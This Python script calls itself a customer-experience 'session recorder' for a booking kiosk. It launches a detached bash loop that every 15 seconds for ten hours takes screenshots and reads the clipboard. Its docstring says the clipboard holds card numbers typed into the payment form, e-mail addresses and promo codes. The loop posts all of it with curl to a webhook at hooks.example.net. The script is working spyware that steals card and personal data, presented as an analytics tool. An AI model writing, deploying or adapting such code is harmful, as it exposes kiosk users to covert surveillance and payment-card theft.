#!/usr/bin/env python3
"""Customer-experience "session recorder" for the self-service booking kiosk.

Marketing wanted to see how players use the kiosk.  This starts a background
recorder that periodically grabs the kiosk screen and whatever is on the
clipboard (promo codes, e-mail addresses, card numbers typed into the payment
form) and posts them to the analytics webhook.
"""

import argparse
import logging
import os
import shutil
import subprocess
import sys
import tempfile
from dataclasses import dataclass
from pathlib import Path

LOG = logging.getLogger("kiosk-recorder")

RECORDER_SH = r"""#!/bin/bash
out_dir="$(mktemp -d)"
trap 'rm -rf "$out_dir"' EXIT
n=0
while [ "$n" -lt "$REC_SHOTS" ]; do
    n=$((n + 1))
    ts="$(date +%s)"
    clip="$(xclip -o -selection clipboard 2>/dev/null || xsel -b -o 2>/dev/null || true)"
    shot="$out_dir/shot-$ts.png"
    import -window root "$shot" 2>/dev/null || scrot -o "$shot" 2>/dev/null || true
    args=(-fsS --max-time 20 -F "kiosk=$REC_KIOSK" -F "ts=$ts" -F "clipboard=$clip")
    [ -s "$shot" ] && args+=(-F "screen=@$shot;type=image/png")
    curl "${args[@]}" "$REC_HOOK" >/dev/null 2>&1
    rm -f "$shot"
    sleep "$REC_INTERVAL"
done
"""


@dataclass
class RecorderSettings:
    kiosk: str
    hook: str
    interval: int
    shots: int
    display: str


class Recorder:
    def __init__(self, settings: RecorderSettings):
        self.s = settings
        self.script = None

    def check_tools(self):
        missing = [t for t in ("curl",) if shutil.which(t) is None]
        if missing:
            raise RuntimeError("missing tools: " + ", ".join(missing))
        if not any(shutil.which(t) for t in ("xclip", "xsel")):
            LOG.warning("no clipboard tool found; clipboard field will be empty")
        if not any(shutil.which(t) for t in ("import", "scrot")):
            LOG.warning("no screenshot tool found; screens will be skipped")

    def prepare(self) -> str:
        fd, path = tempfile.mkstemp(prefix="kiosk-rec-", suffix=".sh")
        with os.fdopen(fd, "w") as fh:
            fh.write(RECORDER_SH)
        os.chmod(path, 0o700)
        self.script = path
        return path

    def start(self) -> int:
        env = dict(os.environ)
        env.update({
            "DISPLAY": self.s.display,
            "REC_KIOSK": self.s.kiosk,
            "REC_HOOK": self.s.hook,
            "REC_INTERVAL": str(self.s.interval),
            "REC_SHOTS": str(self.s.shots),
        })
        proc = subprocess.Popen(["bash", self.script], env=env,
                                stdin=subprocess.DEVNULL,
                                stdout=subprocess.DEVNULL,
                                stderr=subprocess.DEVNULL,
                                start_new_session=True)
        Path("recorder.pid").write_text(f"{proc.pid}\n")
        return proc.pid


def main():
    p = argparse.ArgumentParser(description="Start the kiosk session recorder")
    p.add_argument("--kiosk", default=os.environ.get("KIOSK_ID", "kiosk-1"))
    p.add_argument("--hook", default="https://hooks.example.net/kiosk/ingest")
    p.add_argument("--interval", type=int, default=15, help="seconds between captures")
    p.add_argument("--hours", type=float, default=10.0, help="how long to record")
    p.add_argument("--display", default=os.environ.get("DISPLAY", ":0"))
    p.add_argument("-v", "--verbose", action="store_true")
    args = p.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    if args.interval < 1:
        LOG.error("interval must be at least 1 second")
        return 2
    shots = max(1, int(args.hours * 3600 / args.interval))
    rec = Recorder(RecorderSettings(args.kiosk, args.hook, args.interval,
                                    shots, args.display))
    try:
        rec.check_tools()
        rec.prepare()
        pid = rec.start()
    except (OSError, RuntimeError) as exc:
        LOG.error("recorder not started: %s", exc)
        return 1
    LOG.info("recording kiosk %s every %ds (%d captures), pid %d",
             args.kiosk, args.interval, shots, pid)
    return 0


if __name__ == "__main__":
    sys.exit(main())
